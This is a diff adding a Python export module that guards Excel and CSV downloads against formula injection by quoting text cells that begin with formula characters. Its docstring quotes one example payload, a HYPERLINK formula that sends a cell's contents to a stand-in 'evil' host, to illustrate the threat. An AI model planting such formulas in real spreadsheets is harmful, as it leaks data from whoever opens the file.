@@ -1,0 +1,77 @@
+"""The one writer for every Excel and CSV export: what a user typed is always text, never a formula.
+
+Excel and LibreOffice run a cell that starts with = + - @ (and, via DDE, one that starts with a
+tab or carriage return) as a formula, so a project or contact name such as
+=HYPERLINK("http://evil/?"&C5, "点击") would run on a clerk's machine. OWASP's CSV-injection rule:
+prefix such text with a single quote. Real numbers (ranks, scores, counts) stay numeric cells.
+Every export builds its rows through `cells()`; tests/security/test_formula_injection.py downloads
+every export URL with hostile values and fails on any formula.
+"""
+
+import csv
+import datetime
+import io
+from decimal import Decimal
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
+NUMBERS = (int, float, Decimal)
+
+
+def text(value):
+    """`value` as text that no spreadsheet program evaluates."""
+    s = "" if value is None else str(value)
+    return "'" + s if s.startswith(FORMULA_STARTS) else s
+
+
+def cell(value):
+    """A value ready for a cell: numbers, dates and empty cells as they are, everything else as safe text."""
+    if value is None or isinstance(value, bool):
+        return value
+    if isinstance(value, NUMBERS + (datetime.date, datetime.time)):
+        return value
+    return text(value)
+
+
+def cells(values):
+    return [cell(v) for v in values]
+
+
+class SafeSheet:
+    """A worksheet whose append() neutralises every value; wraps a normal or a write-only sheet."""
+
+    def __init__(self, ws):
+        self.ws = ws
+
+    def append(self, values):
+        self.ws.append(cells(values))
+
+    def __getattr__(self, name):
+        return getattr(self.ws, name)
+
+
+def workbook():
+    """A write-only workbook (rows stream out with constant memory) and a function adding safe sheets."""
+    from openpyxl import Workbook
+
+    wb = Workbook(write_only=True)
+    return wb, lambda title: SafeSheet(wb.create_sheet(title))
+
+
+def save(wb):
+    out = io.BytesIO()
+    wb.save(out)
+    return out.getvalue()
+
+
+class _Echo:
+    def write(self, value):
+        return value
+
+
+def csv_lines(header, rows):
+    """A CSV export line by line (for a streaming response), with the BOM Excel needs to read UTF-8."""
+    writer = csv.writer(_Echo())
+    yield "\ufeff"
+    yield writer.writerow(cells(header))
+    for row in rows:
+        yield writer.writerow(["" if v is None else v for v in cells(row)])
